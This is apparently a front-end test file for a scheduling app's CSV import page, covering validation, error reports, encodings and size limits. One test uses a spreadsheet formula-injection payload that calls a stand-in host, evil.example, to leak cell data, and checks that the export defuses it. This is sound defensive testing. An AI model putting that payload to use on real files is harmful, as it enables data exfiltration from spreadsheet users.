import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { IMPORT_COLUMNS, IMPORT_MAX_FILE_BYTES, IMPORT_MSG, parseImportCsv, type ImportRequest } from '@shared/import';
import { planLimitMessage } from '@shared/plans';
import { resetAmplifyMocks, signedInAs } from './helpers/amplify-mocks';
import { meResponse, mockApi, shellRoutes, socialAccount } from './helpers/api-mock';
import { renderApp } from './helpers/render-app';
import { readText } from '@/features/import/utils/preview';

const FB = '01JQ00000000000000000000FB';
const NEXT_YEAR = new Date().getUTCFullYear() + 1;
const CSV = [
  'date,time,platforms,caption',
  `${NEXT_YEAR}-03-02,09:30,facebook,Fresh bread`,
  `${NEXT_YEAR}-03-02,9.30am,facebook,Bad time`,
  `${NEXT_YEAR}-03-03,10:00,instagram,No account`,
  `${NEXT_YEAR}-03-04,12:00,Bakery Page,By name`,
].join('\n');

/** The API the Import page reads (me in London, one Facebook account, Free with `used` of 5 taken) and its import route. */
function importApi(options: { used?: number; usageStatus?: number; answer?: (body: ImportRequest) => unknown } = {}) {
  return mockApi({
    ...shellRoutes({ me: meResponse({ settings: { timezone: 'Europe/London' } }) }),
    'GET /accounts': { body: { accounts: [socialAccount({ id: FB, platform: 'facebook', account_name: 'Bakery Page' })] } },
    'GET /clients': { body: { items: [] } },
    'GET /usage': options.usageStatus
      ? { status: options.usageStatus, body: { error: { code: 'INTERNAL', message: 'Something went wrong' } } }
      : { body: { month: '2026-11', used: options.used ?? 0, limit: 5, plan: 'free' } },
    'POST /posts/import': (call) => {
      const body = call.body as ImportRequest;
      return {
        body: options.answer?.(body) ?? {
          results: body.rows.map((r) => ({ row: r.row, status: 'scheduled', post_id: `01JQ000000000000000000P00${r.row}`, reason: null })),
        },
      };
    },
  });
}

async function openImport() {
  signedInAs();
  renderApp('/home/import');
  await screen.findByRole('heading', { name: 'Import', level: 1 });
  await screen.findByTestId('import-dropzone');
}

const chooseFile = (text: string, name = 'posts.csv') =>
  fireEvent.change(screen.getByLabelText('Choose a CSV file'), { target: { files: [new File([text], name, { type: 'text/csv' })] } });
const rowsShown = () =>
  screen.queryAllByTestId('preview-row').map((r) =>
    within(r)
      .getAllByRole('cell')
      .map((c) => c.textContent),
  );

/** Captures what the page offers for download. */
function downloads() {
  const saved: Blob[] = [];
  vi.stubGlobal('URL', Object.assign(URL, { createObjectURL: (blob: Blob) => (saved.push(blob), 'blob:x'), revokeObjectURL: () => undefined }));
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  return saved;
}

describe('the Import page', () => {
  beforeEach(() => resetAmplifyMocks());
  afterEach(() => vi.unstubAllGlobals());

  it('previews every row as valid or invalid with the reason, and schedules only the valid ones', async () => {
    // Prepare
    const api = importApi();
    await openImport();

    // Act
    chooseFile(CSV);

    // Assess
    await screen.findByText('2 valid');
    expect(screen.getByText('2 invalid')).toBeInTheDocument();
    expect(rowsShown()).toEqual([
      ['1', `${NEXT_YEAR}-03-02 09:30`, 'facebook', 'Fresh bread', 'Valid'],
      ['2', `${NEXT_YEAR}-03-02 9.30am`, 'facebook', 'Bad time', `Invalid${IMPORT_MSG.badTime}`],
      ['3', `${NEXT_YEAR}-03-03 10:00`, 'instagram', 'No account', `Invalid${IMPORT_MSG.noAccountFor('instagram')}`],
      ['4', `${NEXT_YEAR}-03-04 12:00`, 'Bakery Page', 'By name', 'Valid'],
    ]);

    // Act
    fireEvent.click(screen.getByRole('button', { name: 'Schedule 2 posts' }));

    // Assess: one chunk with the valid rows only, in the user's timezone; then the summary.
    await screen.findByText('2 posts scheduled, 2 rows not imported');
    const [sent] = api.callsTo('POST', '/posts/import');
    expect(sent!.body).toEqual({
      timezone: 'Europe/London',
      rows: [
        { row: 1, fields: { date: `${NEXT_YEAR}-03-02`, time: '09:30', platforms: 'facebook', caption: 'Fresh bread' } },
        { row: 4, fields: { date: `${NEXT_YEAR}-03-04`, time: '12:00', platforms: 'Bakery Page', caption: 'By name' } },
      ],
    });
    expect(screen.getByRole('link', { name: 'See them in Posts' })).toHaveAttribute('href', '/home/posts');
  });

  it('downloads an error report of the invalid rows and the rows the server refused, each with its reason', async () => {
    // Prepare
    const saved = downloads();
    importApi({ answer: (body) => ({ results: body.rows.map((r) => ({ row: r.row, status: 'failed', post_id: null, reason: 'Taken meanwhile' })) }) });
    await openImport();
    chooseFile(CSV);
    fireEvent.click(await screen.findByRole('button', { name: 'Schedule 2 posts' }));
    await screen.findByText('0 posts scheduled, 4 rows not imported');

    // Act
    fireEvent.click(screen.getByRole('button', { name: 'Download error report' }));

    // Assess
    const report = parseImportCsv(await readText(saved.at(-1)!));
    expect(report.ok && report.rows.map((r) => [r.fields.caption, r.fields.time])).toEqual([
      ['Bad time', '9.30am'],
      ['No account', '10:00'],
      ['Fresh bread', '09:30'],
      ['By name', '12:00'],
    ]);
    const text = await readText(saved.at(-1)!);
    expect(text.split('\r\n')[0]).toBe(`${IMPORT_COLUMNS.join(',')},reason`);
    expect(text).toContain(IMPORT_MSG.badTime);
    expect(text).toContain('Taken meanwhile');
  });

  it('writes a formula-like caption into the error report as text a spreadsheet will not run, and reads it back unchanged', async () => {
    // Prepare: a file whose caption would phone home from a spreadsheet if written as it is
    const saved = downloads();
    importApi();
    await openImport();
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    chooseFile(['date,time,platforms,caption', `${NEXT_YEAR}-03-02,9.30am,facebook,"${formula.replace(/"/g, '""')}"`].join('\n'));
    await screen.findByText('1 invalid');

    // Act
    fireEvent.click(screen.getByRole('button', { name: 'Download error report' }));

    // Assess
    const text = await readText(saved.at(-1)!);
    expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    const back = parseImportCsv(text);
    expect(back.ok && back.rows[0]!.fields.caption).toBe(formula);
  });

  it("marks valid rows past this month's allowance invalid, as the server would", async () => {
    importApi({ used: 4 });
    await openImport();
    chooseFile(CSV);
    await screen.findByText('1 valid');
    expect(rowsShown()[3]![4]).toBe(`Invalid${planLimitMessage(5)}`);
    expect(screen.getByRole('button', { name: 'Schedule 1 post' })).toBeEnabled();
  });

  it('refuses a file without the needed columns, says why, and sends nothing', async () => {
    const api = importApi();
    await openImport();
    chooseFile('when,caption\n2026-01-01,hi');
    expect(await screen.findByText(IMPORT_MSG.missingColumns(['date', 'time', 'platforms']))).toBeInTheDocument();
    expect(screen.queryByTestId('preview-row')).toBeNull();
    expect(api.callsTo('POST', '/posts/import')).toEqual([]);
  });

  it('reads a file saved as Windows-1252 with its accents intact, and warns that it was not UTF-8', async () => {
    // Prepare: "Café" as Excel's plain "CSV" saves it on Windows (é is the single byte 0xE9)
    importApi();
    await openImport();
    const bytes = Uint8Array.from(Buffer.from(`date,time,platforms,caption\n${NEXT_YEAR}-03-02,09:30,facebook,Caf\xe9 cr\xe8me`, 'latin1'));

    // Act
    fireEvent.change(screen.getByLabelText('Choose a CSV file'), { target: { files: [new File([bytes], 'posts.csv', { type: 'text/csv' })] } });

    // Assess
    expect(await screen.findByText(IMPORT_MSG.notUtf8)).toBeInTheDocument();
    expect(rowsShown()[0]![3]).toBe('Café crème');
  });

  it('reads a UTF-8 file without a warning', async () => {
    importApi();
    await openImport();
    chooseFile(`date,time,platforms,caption\n${NEXT_YEAR}-03-02,09:30,facebook,Café crème`);
    await screen.findByText('1 valid');
    expect(rowsShown()[0]![3]).toBe('Café crème');
    expect(screen.queryByText(IMPORT_MSG.notUtf8)).toBeNull();
  });

  it('refuses a file whose quote is never closed, naming the row, instead of merging the rows after it', async () => {
    const api = importApi();
    await openImport();

    chooseFile(
      [
        CSV.split('\n')[0],
        `${NEXT_YEAR}-03-02,09:30,facebook,Fine`,
        `${NEXT_YEAR}-03-02,10:30,facebook,"Opens here`,
        `${NEXT_YEAR}-03-03,10:00,facebook,Swallowed`,
      ].join('\n'),
    );

    expect(await screen.findByText(IMPORT_MSG.unterminatedQuote(2, 3))).toBeInTheDocument();
    expect(screen.queryByTestId('preview-row')).toBeNull();
    expect(api.callsTo('POST', '/posts/import')).toEqual([]);
  });

  it('refuses a file over the size cap with a clear message before reading it', async () => {
    const api = importApi();
    await openImport();
    const big = new File([new Uint8Array(IMPORT_MAX_FILE_BYTES + 1)], 'huge.csv', { type: 'text/csv' });

    fireEvent.change(screen.getByLabelText('Choose a CSV file'), { target: { files: [big] } });

    expect(await screen.findByText(IMPORT_MSG.fileTooLarge(IMPORT_MAX_FILE_BYTES + 1))).toBeInTheDocument();
    expect(screen.queryByTestId('preview-row')).toBeNull();
    expect(api.callsTo('POST', '/posts/import')).toEqual([]);
  });

  it('offers the template, whose rows read back as the format', async () => {
    const saved = downloads();
    importApi();
    await openImport();
    fireEvent.click(screen.getByRole('button', { name: 'Download template' }));
    const template = parseImportCsv(await readText(saved[0]!));
    expect(template.ok && template.rows).toHaveLength(2);
  });

  it('says when the accounts or plan could not be loaded, and tries again', async () => {
    const api = importApi({ usageStatus: 500 });
    await openImport().catch(() => undefined);
    expect(await screen.findByText("Couldn't load your accounts and plan")).toBeInTheDocument();
    fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
    await waitFor(() => expect(api.callsTo('GET', '/usage').length).toBeGreaterThan(1));
  });
});
